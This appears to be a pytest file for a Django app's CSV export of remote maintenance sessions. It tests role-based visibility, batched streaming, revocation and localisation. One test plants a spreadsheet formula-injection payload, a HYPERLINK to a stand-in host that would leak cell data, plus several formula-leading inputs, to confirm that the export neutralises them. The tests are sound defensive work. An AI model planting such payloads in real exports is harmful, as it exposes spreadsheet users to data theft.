# SPDX-License-Identifier: Apache-2.0
"""Sessions for a spreadsheet: the same sight as on the pages, and nothing in them that a spreadsheet would compute."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.test import AsyncClient

from portineria.control.console import session_export
from portineria.control.identity.models import Person, Supplier
from portineria.control.remote_sessions import services
from portineria.control.remote_sessions.models import Session
from portineria.sinks.extract import harmless
from tests.integration.control.browsing import BACKEND
from tests.integration.control.sessions import accepted, started
from tests.integration.control.world import World

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def sessions(committed_world: World) -> list[Session]:
    committed_world.link()
    return [accepted(committed_world, started(committed_world)) for _ in range(3)]


async def exported(person: Person, language: str = "en") -> tuple[Any, list[dict[str, str]]]:
    client = AsyncClient()
    await client.aforce_login(person, backend=BACKEND)
    answer: Any = await client.get("/sessions/export/", headers={"accept-language": language})
    assert answer.status_code == 200
    text = b"".join([part async for part in answer.streaming_content]).decode()
    assert text.startswith("\ufeff")
    return answer, list(csv.DictReader(io.StringIO(text[1:])))


async def test_everybody_gets_what_their_list_shows(committed_world: World, sessions: list[Session]) -> None:
    world = committed_world
    ids = [session.public_id for session in reversed(sessions)]
    answer, rows = await exported(world.owner)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"].startswith('attachment; filename="portineria-sessions-')
    assert [row["Session"] for row in rows] == ids
    assert (rows[0]["Who"], rows[0]["Supplier"], rows[0]["Machine"]) == ("Technician", "Presses & Co", "Press 3")
    assert (rows[0]["Place"], rows[0]["Time zone"], rows[0]["State"]) == ("North", "Europe/Rome", "live")
    assert [row["Session"] for row in (await exported(world.technician))[1]] == ids
    for other in (world.rival, world.stranger):
        assert (await exported(other))[1] == []


async def test_a_technician_who_no_longer_reaches_the_machine_gets_no_place(
    committed_world: World, sessions: list[Session]
) -> None:
    await sync_to_async(
        lambda: sessions[0].grant.__class__.objects.update(
            revoked_at=sessions[0].requested_at, ended_class="administrative"
        )
    )()
    [row, *_] = (await exported(committed_world.technician))[1]
    assert (row["Place"], row["Tag"], row["Time zone"]) == ("Owner's plant", "", "UTC")


async def test_many_are_read_part_by_part_and_none_twice(
    committed_world: World, sessions: list[Session], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(session_export, "_AT_ONCE", 2)
    rows = (await exported(committed_world.owner))[1]
    assert [row["Session"] for row in rows] == [session.public_id for session in reversed(sessions)]


async def test_whoever_loses_their_sight_meanwhile_gets_no_more(
    committed_world: World, sessions: list[Session], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(session_export, "_AT_ONCE", 2)
    parts = session_export.lines(await Person.objects.aget(pk=committed_world.owner.pk), "en")
    assert [(await anext(parts)).count("ses_") for _ in range(2)] == [0, 2]
    await committed_world.owner.memberships.all().adelete()
    assert [part async for part in parts] == []


async def test_what_a_spreadsheet_would_compute_is_text(committed_world: World, sessions: list[Session]) -> None:
    link = '=HYPERLINK("http://example.test/?"&A1)'
    await Supplier.objects.filter(public_id=committed_world.supplier).aupdate(name="@SUM(A1)")
    end = sync_to_async(services.drain)
    await end(actor=committed_world.owner, session=sessions[0].public_id, reason=link)
    rows = {row["Session"]: row for row in (await exported(committed_world.owner))[1]}
    row = rows[sessions[0].public_id]
    assert (row["Supplier"], row["Reason"]) == ("'@SUM(A1)", f"'{link}")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_beginning_of_a_formula_is_marked(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("cell", ["Press 3", "", "a=b", 0, 5120])
def test_everything_else_stays_as_it_is(cell: object) -> None:
    assert harmless(cell) == cell


async def test_the_table_speaks_the_readers_language(committed_world: World, sessions: list[Session]) -> None:
    [row, *_] = (await exported(committed_world.owner, "it"))[1]
    assert row["Macchina"] == "Press 3"
    assert row["Stato"] not in ("", "inside")
